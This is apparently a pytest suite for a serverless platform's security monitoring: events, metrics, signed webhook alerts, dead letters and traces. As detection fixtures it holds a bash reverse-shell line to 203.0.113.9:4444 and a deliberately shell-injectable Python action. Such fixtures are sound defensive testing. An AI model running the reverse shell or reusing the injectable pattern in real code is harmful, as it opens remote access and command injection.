"""Monitoring over the API: every control emits its event, counts its metric and, with a rule and a
webhook configured, delivers a signed alert to a local receiver; plus /metrics, events, alerts,
webhooks, rules, dead letters, tags and traces.
"""

from __future__ import annotations

import base64
import dataclasses
import http.server
import json
import sqlite3
import threading
import time
from dataclasses import replace

import pytest
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from starlette.testclient import TestClient

from stockade.api.app import Platform, create_app
from stockade.config import ObservabilitySettings, Settings
from stockade.observability.alerts import verify_signature
from stockade.observability.events import egress_denied
from stockade.observability.tracing import build_tracer
from stockade.store import open_sqlite_store
from stockade.testing import InProcessRunner

A = "/api/v1/namespaces/_/actions"
WEBHOOK_SECRET = "whsec-test-0123456789abcdef"
METRICS_TOKEN = "scrape-token-0123456789"
OK_PY = "def main(args):\n    return {'n': len(args)}\n"
SHELL_PY = """\
import subprocess


def main(args):
    out = subprocess.check_output(f"echo -n {args['string']} | wc -w", shell=True)
    return {"count": int(out)}
"""


class Receiver:
    """A webhook endpoint on 127.0.0.1 that records deliveries and answers ``status``."""

    def __init__(self) -> None:
        self.deliveries: list[tuple[dict[str, str], bytes]] = []
        self.status = 200
        receiver = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("content-length", "0")))
                receiver.deliveries.append(({k.lower(): v for k, v in self.headers.items()}, body))
                self.send_response(receiver.status)
                self.send_header("content-length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def alerts(self):
        return [json.loads(body)["alert"] for _, body in self.deliveries]

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@dataclasses.dataclass
class TamperingRunner(InProcessRunner):
    """Reports integrity findings for actions named ``tampered``; exposes pool statistics."""

    async def run_action(self, request):
        outcome = await InProcessRunner.run_action(self, request)
        if request.action.path.name == "tampered":
            return replace(
                outcome, findings=("code_modified: code directory changed during the run", "stray_processes: 4242")
            )
        return outcome

    def pool_statistics(self):
        return {"live": 2, "idle": 1, "busy": 1, "max_sandboxes": 64, "waiting": 0, "evictions": 3, "reaped": 0}


class Api:
    def __init__(self, client, keys, services):
        self.client, self.keys, self.services = client, keys, services

    def auth(self, ns="guest"):
        return {"Authorization": "Basic " + base64.b64encode(self.keys[ns].encode()).decode()}

    def request(self, method, path, ns="guest", **kw):
        return self.client.request(method, path, headers={**self.auth(ns), **kw.pop("headers", {})}, **kw)

    def get(self, path, **kw):
        return self.request("GET", path, **kw)

    def put(self, path, **kw):
        return self.request("PUT", path, **kw)

    def post(self, path, **kw):
        return self.request("POST", path, **kw)

    def settle(self):
        """Detection, event storage, rule evaluation and deliveries, all done now."""
        self.client.portal.call(self.services.monitoring.settle)

    def metric(self, name, **labels):
        return self.services.monitoring.metrics.value(name, labels)

    def events(self, ns="guest", **query):
        r = self.get("/api/v1/namespaces/_/events", ns=ns, params=query)
        assert r.status_code == 200, r.text
        return r.json()


def monitoring_settings(tmp_path, **changes):
    base = Settings(data_dir=tmp_path)
    observability = ObservabilitySettings(
        metrics_token=METRICS_TOKEN,
        allow_private_webhook_hosts=True,
        allow_plain_http_webhooks=True,
        webhook_backoff_s=0.01,
        webhook_max_attempts=2,
        **changes,
    )
    return replace(base, observability=observability)


@pytest.fixture
def receiver():
    made = Receiver()
    yield made
    made.close()


@pytest.fixture
def make_monitored(tmp_path):
    clients = []

    def build(settings=None, *, runner=None, tracer=None):
        runner = runner or TamperingRunner()
        keys = {}

        async def bootstrap(services):
            for ns in ("guest", "other"):
                keys[ns] = (await services.namespaces.create(ns)).token

        platform = Platform(
            settings=settings or monitoring_settings(tmp_path),
            store=open_sqlite_store(tmp_path / "db.sqlite"),
            runner=runner,
            tracer=tracer,
        )
        platform.on_open.append(bootstrap)
        app = create_app(platform)
        client = TestClient(app)
        client.__enter__()
        clients.append(client)
        return Api(client, keys, app.state.services)

    yield build
    for client in clients:
        client.__exit__(None, None, None)


@pytest.fixture
def api(make_monitored, receiver):
    """The API with a webhook to ``receiver`` and a rule alerting on every denial at once."""
    made = make_monitored()
    r = made.post(
        "/api/v1/namespaces/_/alerts/webhooks",
        json={"url": receiver.url, "secret": WEBHOOK_SECRET, "minSeverity": "low"},
    )
    assert r.status_code == 200, r.text
    rule = {"types": ["auth.failed", "authorization.denied", "request.*"], "threshold": 1, "dedup_s": 0}
    assert made.put("/api/v1/namespaces/_/alerts/rules/every-denial", json=rule).status_code == 200
    return made


def signed_alerts(receiver, kind):
    """The alerts of ``kind`` delivered to ``receiver``, after checking every signature."""
    found = []
    for headers, body in receiver.deliveries:
        assert verify_signature(WEBHOOK_SECRET.encode(), headers["stockade-signature"], body, int(time.time()))
        alert = json.loads(body)["alert"]
        if alert["type"] == kind:
            found.append(alert)
    return found


def expect_control(api, receiver, kind, *, denial=None, ns="guest"):
    """The control's event is stored, counted, and delivered as a signed alert."""
    api.settle()
    events = [e for e in api.events(ns=ns) if e["type"] == kind]
    assert events, f"no {kind} event"
    assert api.metric("stockade_security_events_total", type=kind, severity=events[0]["severity"]) >= 1
    if denial is not None:
        assert api.metric("stockade_denials_total", kind=denial) >= 1
    assert signed_alerts(receiver, kind), f"no signed {kind} alert delivered"
    return events[0]


# -- one test per control ---------------------------------------------------------------------------


def test_authentication_failure(api, receiver):
    bad = {"Authorization": "Basic " + base64.b64encode(api.keys["other"].split(":")[0].encode() + b":wrong").decode()}
    assert api.client.get(A, headers=bad).status_code == 401
    event = expect_control(api, receiver, "auth.failed", denial="auth", ns="other")
    assert event["subject"] == api.keys["other"].split(":")[0]
    assert event["details"]["reason"] == "invalid key"
    assert "wrong" not in json.dumps(event)


def test_authorization_denial(api, receiver):
    assert api.get("/api/v1/namespaces/guest/actions", ns="other").status_code == 403
    event = expect_control(api, receiver, "authorization.denied", denial="authorization")
    assert event["subject"] == "other"


def test_sealed_parameter_refusal(api, receiver):
    body = {"exec": {"kind": "python:3", "code": OK_PY}, "parameters": [{"key": "p", "value": "bound"}],
            "annotations": [{"key": "final", "value": True}]}  # fmt: skip
    assert api.put(f"{A}/sealed", json=body).status_code == 200
    assert api.post(f"{A}/sealed?blocking=true", json={"p": "override"}).status_code == 400
    event = expect_control(api, receiver, "request.sealed_parameter", denial="sealed_parameters")
    assert event["action"] == "guest/sealed"


def test_input_schema_refusal(api, receiver):
    schema = {"type": "object", "properties": {"n": {"type": "integer"}}}
    body = {"exec": {"kind": "python:3", "code": OK_PY}, "annotations": [{"key": "input-schema", "value": schema}]}
    assert api.put(f"{A}/typed", json=body).status_code == 200
    assert api.post(f"{A}/typed?blocking=true", json={"n": "seven"}).status_code == 400
    expect_control(api, receiver, "request.schema_violation", denial="schema")


def test_throttling(make_monitored, receiver, tmp_path):
    settings = monitoring_settings(tmp_path)
    api = make_monitored(replace(settings, limits=replace(settings.limits, invocations_per_minute=1)))
    api.post(
        "/api/v1/namespaces/_/alerts/webhooks",
        json={"url": receiver.url, "secret": WEBHOOK_SECRET, "minSeverity": "low"},
    )
    api.put("/api/v1/namespaces/_/alerts/rules/throttle", json={"types": ["request.throttled"]})
    assert api.put(f"{A}/a", json={"exec": {"kind": "python:3", "code": OK_PY}}).status_code == 200
    assert api.post(f"{A}/a?blocking=true").status_code == 200
    assert api.post(f"{A}/a?blocking=true").status_code == 429
    expect_control(api, receiver, "request.throttled", denial="rate_limit")


def test_sandbox_tamper_and_stray_processes(api, receiver):
    assert api.put(f"{A}/tampered", json={"exec": {"kind": "python:3", "code": OK_PY}}).status_code == 200
    r = api.post(f"{A}/tampered?blocking=true")
    assert r.status_code == 200
    tamper = expect_control(api, receiver, "sandbox.tamper")
    assert tamper["activationId"] == r.headers["x-openwhisk-activation-id"]
    assert tamper["severity"] == "critical"
    assert expect_control(api, receiver, "sandbox.stray_process")["details"]["finding"] == "stray_processes"
    assert api.metric("stockade_sandbox_kills_total", reason="integrity") == 1


def test_secret_decrypt_failure(api, receiver, tmp_path):
    # A trigger parameter (action and package documents are integrity-stamped, so editing them is
    # caught before decryption: see tests/security/test_integrity_tamper.py).
    assert api.put(f"{A}/hello", json={"exec": {"kind": "python:3", "code": OK_PY}}).status_code == 200
    trigger = {"parameters": [{"key": "greeting", "value": "s3cr3t-param"}]}
    assert api.put("/api/v1/namespaces/_/triggers/sealed", json=trigger).status_code == 200
    rule = {"trigger": "/_/sealed", "action": "/_/hello"}
    assert api.put("/api/v1/namespaces/_/rules/r", json=rule).status_code == 200
    # Corrupt the stored ciphertext, as a tampered database would.
    with sqlite3.connect(tmp_path / "db.sqlite") as db:
        (doc,) = db.execute("SELECT doc FROM entities WHERE name = 'sealed'").fetchone()
        entity = json.loads(doc)
        box = entity["parameters"][0]["sealed"]
        box["ct"] = ("A" if box["ct"][0] != "A" else "B") + box["ct"][1:]
        db.execute("UPDATE entities SET doc = ? WHERE name = 'sealed'", (json.dumps(entity),))
    api.post("/api/v1/namespaces/_/triggers/sealed", json={})
    event = expect_control(api, receiver, "secret.decrypt_failed")
    assert event["details"]["parameter"] == "greeting"
    assert "s3cr3t" not in json.dumps(event)


def test_deploy_gate_block_and_override(api, receiver):
    assert api.put(f"{A}/wc", json={"exec": {"kind": "python:3", "code": SHELL_PY}}).status_code == 400
    blocked = expect_control(api, receiver, "deploy.blocked")
    assert blocked["action"] == "wc"
    assert api.metric("stockade_deploy_gate_decisions_total", decision="blocked") == 1
    assert api.metric("stockade_deploy_gate_findings_total", severity="high", decision="blocked") >= 1
    r = api.put(
        f"{A}/wc?acceptRisk=input%20is%20a%20fixed%20word", json={"exec": {"kind": "python:3", "code": SHELL_PY}}
    )
    assert r.status_code == 200
    assert expect_control(api, receiver, "deploy.risk_accepted")["severity"] == "high"


def test_egress_denied_through_the_hook(api, receiver):
    """The egress proxy arrives with its own issue; its hook already reaches the whole pipeline."""
    api.services.monitoring.events.emit(
        egress_denied(namespace="guest", action="a", activation_id="c" * 32, host="evil.example", port=443, time_ms=1)
    )
    expect_control(api, receiver, "egress.denied", denial="egress")


def test_suspicious_log_lines_raise_an_anomaly_alert(api, receiver):
    code = "def main(args):\n    print('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')\n    return {}\n"
    body = {"exec": {"kind": "python:3", "code": code}, "annotations": [{"key": "tags", "value": ["edge"]}]}
    assert api.put(f"{A}/chatty", json=body).status_code == 200
    assert api.post(f"{A}/chatty?blocking=true").status_code == 200
    event = expect_control(api, receiver, "anomaly.log_pattern")
    assert event["details"]["patterns"] == ["reverse-shell"]
    assert event["details"]["tags"] == ["edge"]
    assert "203.0.113.9" not in json.dumps(event)
    assert signed_alerts(receiver, "anomaly.log_pattern")[0]["tags"] == ["edge"]


# -- endpoints ---------------------------------------------------------------------------------------


def test_metrics_need_the_admin_namespace_or_the_bearer_token(api):
    assert api.put(f"{A}/a", json={"exec": {"kind": "python:3", "code": OK_PY}}).status_code == 200
    assert api.post(f"{A}/a?blocking=true").status_code == 200
    r = api.get("/metrics")
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/plain")
    assert 'stockade_invocations_total{kind="python:3",status="success"} 1.0' in r.text
    assert 'stockade_warm_pool_sandboxes{state="idle"} 1.0' in r.text
    assert 'stockade_sandbox_kills_total{reason="evicted"} 3.0' in r.text
    assert "stockade_cold_start_seconds_bucket" in r.text
    assert api.get("/metrics", ns="other").status_code == 403
    assert api.client.get("/metrics").status_code == 401
    token = {"Authorization": f"Bearer {METRICS_TOKEN}"}
    assert api.client.get("/metrics", headers=token).status_code == 200
    assert api.client.get("/metrics", headers={"Authorization": "Bearer nope"}).status_code == 401


def test_events_are_filtered_and_only_the_admin_namespace_reads_others(api):
    assert api.get("/api/v1/namespaces/guest/actions", ns="other").status_code == 403
    api.settle()
    assert [e["type"] for e in api.events(type="authorization.*")] == ["authorization.denied"]
    assert api.events(type="anomaly.*") == []
    assert api.events(severity="critical") == []
    assert api.get("/api/v1/namespaces/_/events", params={"type": "nope"}).status_code == 400
    assert api.get("/api/v1/namespaces/_/events", params={"limit": "0"}).status_code == 400
    assert api.get("/api/v1/namespaces/guest/events", ns="other").status_code == 403
    assert api.get("/api/v1/namespaces/other/events").status_code == 200


def test_alerts_rules_and_webhooks_are_managed_per_namespace(api, receiver):
    assert api.get("/api/v1/namespaces/guest/actions", ns="other").status_code == 403
    api.settle()
    alerts = api.get("/api/v1/namespaces/_/alerts").json()
    assert [a["rule"] for a in alerts] == ["every-denial"]
    hooks = api.get("/api/v1/namespaces/_/alerts/webhooks").json()
    assert [h["url"] for h in hooks] == [receiver.url]
    assert WEBHOOK_SECRET not in json.dumps(hooks)
    assert hooks[0]["secretFingerprint"]
    rules = api.get("/api/v1/namespaces/_/alerts/rules").json()
    assert [r["id"] for r in rules["namespace"]] == ["every-denial"]
    assert "sandbox-compromise" in [r["id"] for r in rules["platform"]]
    assert api.put("/api/v1/namespaces/_/alerts/rules/bad", json={"types": []}).status_code == 400
    assert api.put("/api/v1/namespaces/guest/alerts/rules/x", ns="other", json={"types": ["auth.*"]}).status_code == 403
    assert api.request("DELETE", "/api/v1/namespaces/_/alerts/rules/every-denial").status_code == 200
    assert api.request("DELETE", "/api/v1/namespaces/_/alerts/rules/every-denial").status_code == 404
    ident = hooks[0]["id"]
    assert api.request("DELETE", f"/api/v1/namespaces/_/alerts/webhooks/{ident}").status_code == 200
    assert api.get("/api/v1/namespaces/_/alerts/webhooks").json() == []


def test_failed_deliveries_are_retried_then_dead_lettered(api, receiver):
    receiver.status = 500
    assert api.get("/api/v1/namespaces/guest/actions", ns="other").status_code == 403
    api.settle()
    assert len(receiver.deliveries) == 2  # webhook_max_attempts
    letters = api.get("/api/v1/namespaces/_/alerts/deadletters").json()
    assert len(letters) == 1
    assert letters[0]["attempts"] == 2
    assert letters[0]["lastError"] == "HTTP 500"
    assert api.metric("stockade_alert_deliveries_total", outcome="dead_lettered") == 1
    assert api.metric("stockade_alert_deliveries_total", outcome="failed") == 2


def test_webhooks_to_private_or_plain_http_hosts_are_refused_by_default(make_monitored, tmp_path):
    api = make_monitored(Settings(data_dir=tmp_path))
    for url in ("http://hooks.example/x", "https://127.0.0.1/x", "https://localhost/x", "https://10.1.2.3/",
                "https://[::1]/x", "https://user:pw@hooks.example/", "ftp://hooks.example/"):  # fmt: skip
        r = api.post("/api/v1/namespaces/_/alerts/webhooks", json={"url": url, "secret": WEBHOOK_SECRET})
        assert r.status_code == 400, url
    short = api.post("/api/v1/namespaces/_/alerts/webhooks", json={"url": "https://hooks.example/", "secret": "short"})
    assert short.status_code == 400
    ok = api.post(
        "/api/v1/namespaces/_/alerts/webhooks", json={"url": "https://hooks.example/x", "secret": WEBHOOK_SECRET}
    )
    assert ok.status_code == 200


def test_activations_are_filtered_by_tag_and_bad_tags_are_refused(api):
    tagged = {"exec": {"kind": "python:3", "code": OK_PY}, "annotations": [{"key": "tags", "value": ["payments"]}]}
    assert api.put(f"{A}/pay", json=tagged).status_code == 200
    assert api.put(f"{A}/plain", json={"exec": {"kind": "python:3", "code": OK_PY}}).status_code == 200
    paid = api.post(f"{A}/pay?blocking=true").headers["x-openwhisk-activation-id"]
    api.post(f"{A}/plain?blocking=true")
    found = api.get("/api/v1/namespaces/_/activations", params={"tag": "payments"}).json()
    assert [a["activationId"] for a in found] == [paid]
    assert api.get("/api/v1/namespaces/_/activations", params={"tag": "payments", "count": "true"}).json() == {
        "activations": 1
    }
    assert api.get("/api/v1/namespaces/_/activations", params={"tag": "Bad Tag"}).status_code == 400
    assert api.metric("stockade_tagged_invocations_total", tag="payments", status="success") == 1
    bad = {"exec": {"kind": "python:3", "code": OK_PY}, "annotations": [{"key": "tags", "value": "payments"}]}
    assert api.put(f"{A}/bad", json=bad).status_code == 400


def test_output_schema_annotations_are_checked_at_deploy_and_violations_detected(api):
    schema = {"type": "object", "properties": {"n": {"type": "string"}}}
    bad = {"exec": {"kind": "python:3", "code": OK_PY}, "annotations": [{"key": "output-schema", "value": {"type": 3}}]}
    assert api.put(f"{A}/typed-out", json=bad).status_code == 400
    good = {"exec": {"kind": "python:3", "code": OK_PY}, "annotations": [{"key": "output-schema", "value": schema}]}
    assert api.put(f"{A}/typed-out", json=good).status_code == 200
    assert api.post(f"{A}/typed-out?blocking=true").status_code == 200
    api.settle()
    events = api.events(type="anomaly.output_schema")
    assert events[0]["details"]["path"] == "/n"


def test_a_trace_spans_api_invoke_and_invoker(make_monitored, tmp_path):
    from stockade.invoker import CodeStore, Invoker
    from stockade.sandbox import InsecureProcessBackend

    exporter = InMemorySpanExporter()
    tracer, provider = build_tracer(exporter)
    invoker = Invoker(InsecureProcessBackend(), CodeStore(tmp_path / "code"), tracer=tracer)
    api = make_monitored(runner=invoker, tracer=tracer)
    try:
        assert api.put(f"{A}/traced", json={"exec": {"kind": "python:3", "code": OK_PY}}).status_code == 200
        assert api.post(f"{A}/traced?blocking=true").status_code == 200
    finally:
        api.client.portal.call(invoker.close)
    spans = {s.name: s for s in exporter.get_finished_spans()}
    for name in (
        "stockade.api.invoke",
        "stockade.activation",
        "stockade.invoker.run",
        "stockade.sandbox.init",
        "stockade.sandbox.run",
    ):
        assert name in spans, name
    assert spans["stockade.activation"].parent.span_id == spans["stockade.api.invoke"].context.span_id
    assert spans["stockade.invoker.run"].parent.span_id == spans["stockade.activation"].context.span_id
    assert spans["stockade.sandbox.run"].parent.span_id == spans["stockade.invoker.run"].context.span_id
    assert spans["stockade.invoker.run"].attributes["stockade.cold"] is True
    assert len({s.context.trace_id for s in spans.values()}) == 1
    provider.shutdown()
